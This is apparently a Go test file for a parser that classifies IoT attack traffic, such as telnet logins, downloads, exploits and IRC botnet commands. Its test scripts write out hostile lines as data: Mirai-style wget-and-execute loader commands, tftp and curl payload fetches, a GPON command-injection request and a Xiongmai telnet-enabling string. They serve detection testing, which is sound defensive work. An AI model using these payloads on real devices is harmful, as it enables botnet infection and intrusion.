package dialogue

import (
	"encoding/base64"
	"strings"
	"testing"
)

// auth is Basic credentials, RFC 7617 §2.
var auth = "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte(user+":"+secret)) + "\r\n"

// elf is the beginning of a program for MIPS, big-endian.
var elf = "\x7fELF\x01\x02\x01" + strings.Repeat("\x00", 9) + "\x00\x02\x00\x08" + strings.Repeat("\x00", 40)

var tests = []struct {
	name   string
	script []string
	facts  []string
	only   string // transports, where sizes matter
}{
	{name: "telnet log-in, then Mirai's loader", script: []string{
		"< \xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03", "> \xff\xfc\x01", "< \r\r\nOpenWrt login: ",
		"> \xff\xfb\x1f\xff\xfa\x1f\x00P\x00\x18\xff\xf0" + user + "\r\n", "< " + user + "\r\nPassword: ", "> " + secret + "\r\n",
		"< \r\n\r\nBusyBox v1.24.2 () built-in shell (ash)\r\n\r\nroot@OpenWrt:~# ",
		"> enable\x00", "< enable", "> \r\n", "< \r\n-ash: enable: not found\r\nroot@OpenWrt:~# ", "> system\x00", "> \r\n", "> shell\x00",
		"> \r\n", "> sh\x00", "> \r\n", "< \r\nroot@OpenWrt:~# ", "> /bin/busybox MIRAI\r\n",
		"< /bin/busybox MIRAI\r\nMIRAI: applet not found\r\nroot@OpenWrt:~# ",
		"> /bin/busybox wget http://" + user + ":" + secret + "@203.0.113.5:8080/bins/Mirai.mips?k=" + secret + " -O - > dvr; /bin/busybox ECCHI\r\n",
		"> chmod 777 dvr; ./dvr telnet.mips\r\n",
	}, facts: []string{"login telnet prompt", "login telnet tried", "login telnet succeeded", "shell shell-escalation",
		"shell busybox-probe", "shell download 203.0.113.5 /bins/Mirai.mips", "shell busybox-probe", "shell execute", "shell execute"}},
	{name: "telnet refused twice, the second password before it was asked for", script: []string{
		"< \r\nUsername:", "> " + user + "\r\n", "< \r\nPassword:", "> " + secret + "\r\n", "< \r\n\r\nLogin incorrect\r\n\r\nUsername:",
		"> " + user + "\n", "> " + secret + "\n", "< \r\nPassword:\r\n\r\nUsername:",
	}, facts: []string{"login telnet prompt", "login telnet tried", "login telnet refused", "login telnet prompt", "login telnet tried",
		"login telnet refused", "login telnet prompt"}},
	{name: "telnet with one who does not wait for prompts", script: []string{
		"< \xff\xfb\x01Username: ", "> " + user + "\r\n", "< \r\nPassword: ", "> " + secret + "\r\n", "> shell\r\n> sh\r\n",
		"< \r\nshell\r\nsh^@\r\nUsername: shell\r\nPassword: ",
	}, facts: []string{"login telnet prompt", "login telnet tried", "login telnet refused", "login telnet prompt"}},
	{name: "telnet that asks for a password only, in another colour", script: []string{
		"< \x1b[1;31mPassword: \x1b[0m", "> \r\n", "< \r\nPassword: ", "> " + secret + "\r\x00", "< \r\nWelcome\r\nto the router\r\n",
	}, facts: []string{"login telnet prompt", "login telnet tried", "login telnet refused", "login telnet prompt", "login telnet tried", "login telnet succeeded"},
		only: "whole,every packet twice,sent again with more"},
	{name: "telnet without a password", script: []string{
		"< \xff\xfb\x01login: ", "> root\r\n", "< root\r\n", "< # ", "> busybox nosuch\n", "< nosuch: applet not found\n# ",
		`> echo -ne '\x7f\x45\x4c\x46' > /tmp/x` + "\n", "> tftp -g -l - -r bot.arm 203.0.113.9\n", "> sh bot.arm\n",
		"> ftpget -v -u " + user + " -p " + secret + " 203.0.113.8 local remote\n", "> curl -O http://[2001:db8::5]:80/x.sh\n", "> ls -l\n",
	}, facts: []string{"login telnet prompt", "login telnet tried", "login telnet succeeded", "shell busybox-probe", "shell echo-load",
		"shell download 203.0.113.9", "shell execute", "shell download 203.0.113.8", "shell download 2001:db8::5 /x.sh"}},
	{name: "an administrator's telnet", script: []string{
		"< \xff\xfb\x01Router login: ", "> " + user + "\r\n", "< Password: ", "> " + secret + "\r\n",
		"< \r\nLast login: Sat Nov 27 20:11:43 on ttyp2\r\n$ ", "> enable\r\n", "> show version\r\n", "> chmod 755 x\r\n", "> ./x\r\n", "> wget\r\n", "> exit\r\n",
	}, facts: []string{"login telnet prompt", "login telnet tried", "login telnet succeeded"}},
	{name: "ftp", script: []string{"< 220-Hello\r\n220 ready.\r\n", "> USER " + user + "\r\n", "< 331 Password required.\r\n", "> PASS " + secret + "\r\n",
		"< 530 Login incorrect.\r\n", "> user " + user + "\r\n", "< 331 Password\r\n", "> pass " + secret + "\r\n", "< 230-Welcome\r\n230 In.\r\n", "> QUIT\r\n"},
		facts: []string{"login ftp prompt", "login ftp tried", "login ftp refused", "login ftp prompt", "login ftp tried", "login ftp succeeded"}},
	{name: "mail is not ftp", script: []string{"< 220 mail ESMTP\r\n", "> EHLO home\r\n", "< 250 ok\r\n", "> AUTH LOGIN\r\n", "< 535 no\r\n"}},
	{name: "http basic", script: []string{"> GET / HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n", "< HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n",
		"> GET /a?user=" + user + "&pw=" + secret + " HTTP/1.1\r\nHost: Cam.Example:80\r\n" + auth + "\r\n",
		"< HTTP/1.1 403 Forbidden\r\nContent-Length: 2\r\n\r\nno",
		"> GET /b HTTP/1.1\r\nHost: cam\r\n" + auth + "\r\n", "< HTTP/1.1 200 OK\r\nContent-Length: 30\r\n\r\n<html>..........................",
		"> GET http://" + user + ":" + secret + "@cam/c HTTP/1.1\r\nHost: " + user + "@cam\r\n\r\n"},
		facts: []string{"request GET 192.0.2.1 /", "response 401", "login http prompt", "request GET cam.example /a", "login http tried",
			"response 403", "login http refused", "request GET cam /b", "login http tried", "response 200", "login http succeeded", "request GET cam /c"}},
	{name: "an executable", script: []string{"> GET /bins/x.mips HTTP/1.0\r\nUser-Agent: Wget\r\nHost: 203.0.113.5\r\n\r\n",
		"< HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\n" + elf, "< " + elf},
		facts: []string{"request GET 203.0.113.5 /bins/x.mips", "response elf mips 200"}, only: "whole,every packet twice"},
	{name: "an executable, late", script: []string{"> GET /bins/x.mips HTTP/1.0\r\nHost: 203.0.113.5\r\n\r\n", "< HTTP/1.0 200 OK\r\n\r\n", "< " + elf, "< " + elf},
		facts: []string{"request GET 203.0.113.5 /bins/x.mips", "response 200", "response elf mips 200"}},
	{name: "exploit in a body", script: []string{"> POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 192.0.2.1:80\r\nContent-Length: 99\r\n\r\n",
		"> XWebPageName=diag&dest_host=%60busybox+wget+-qO+-+http://203.0.113.5/g.php`&ipv=0", "< HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"},
		facts: []string{"request POST 192.0.2.1 /GponForm/diag_Form", "exploit gpon-cve-2018-10561", "response 404"}},
	{name: "an administrator's page, and later a word", script: []string{"> POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: r\r\n\r\ndest_host=192.0.2.7",
		"> GET /search?q=`busybox HTTP/1.1\r\nHost: r\r\n\r\n"},
		facts: []string{"request POST r /GponForm/diag_Form", "request GET r /search"}},
	{name: "exploit of another protocol", script: []string{"> OpenTelnet:OpenOnce"}, facts: []string{"exploit xiongmai-opentelnet"}, only: "whole"},
	{name: "an IRC bot", script: []string{"< :irc.example NOTICE AUTH :*** Looking up\r\n", "> NICK [BOT]" + user + "\r\nUSER x 0 * :" + secret + "\r\n",
		"< PING :1\r\n", "> PONG :1\r\n", "< :irc.example 001 x :Welcome\r\n", "> JOIN #Bots " + secret + "\r\n",
		"< :irc.example 332 x #bots :!scan 23\r\n", "< :m!m@m PRIVMSG #bots :.udp 203.0.113.5 80 60\r\n", "< :m!m@m PRIVMSG #bots :hello, how do you do\r\n",
		"> PRIVMSG m :!* SCANNER ON\r\n"},
		facts: []string{"irc notice", "irc nick", "irc user", "irc ping", "irc pong", "irc welcome", "irc join #bots", "irc command #bots", "irc command #bots",
			"irc privmsg #bots", "irc command"}},
	{name: "Mirai's keep-alive", script: []string{"> \x00\x00\x00\x01", "> \x06telnet", "> \x00\x00", "< \x00\x00",
		"< \x00\x14\x00\x00\x00\x78\x09\x01\x03\x53\x24\x33\x20\x01\x07\x04\x37\x30\x33\x39", "> \x00\x00", "< \x00\x00"},
		facts: []string{"small 00000001 by opener", "small 063f3f3f3f3f3f by opener", "small 0000 by opener", "small 0000 by answerer",
			"small 0000 by opener", "small 0000 by answerer"}, only: "whole,every packet twice"},
	{name: "MQTT", script: []string{"> \x10\x12\x00\x04MQTT\x04\x02\x00\x3c\x00\x06camera", "< \x20\x02\x00\x00", "> \xc0\x00", "< \xd0\x00"}},
	{name: "old MQTT", script: []string{"> \x10\xff\x01\x00\x06MQIsdp\x03\x02\x00\x3c", "> \xc0\x00"}},
	{name: "POP3", script: []string{"< +OK ready\r\n", "> USER " + user + "\r\n", "> PASS " + secret + "\r\n"}},
}

func TestDialogues(t *testing.T) {
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			if test.only != "" {
				want(t, test.script, test.facts, test.only)
				return
			}
			want(t, test.script, test.facts)
		})
	}
}
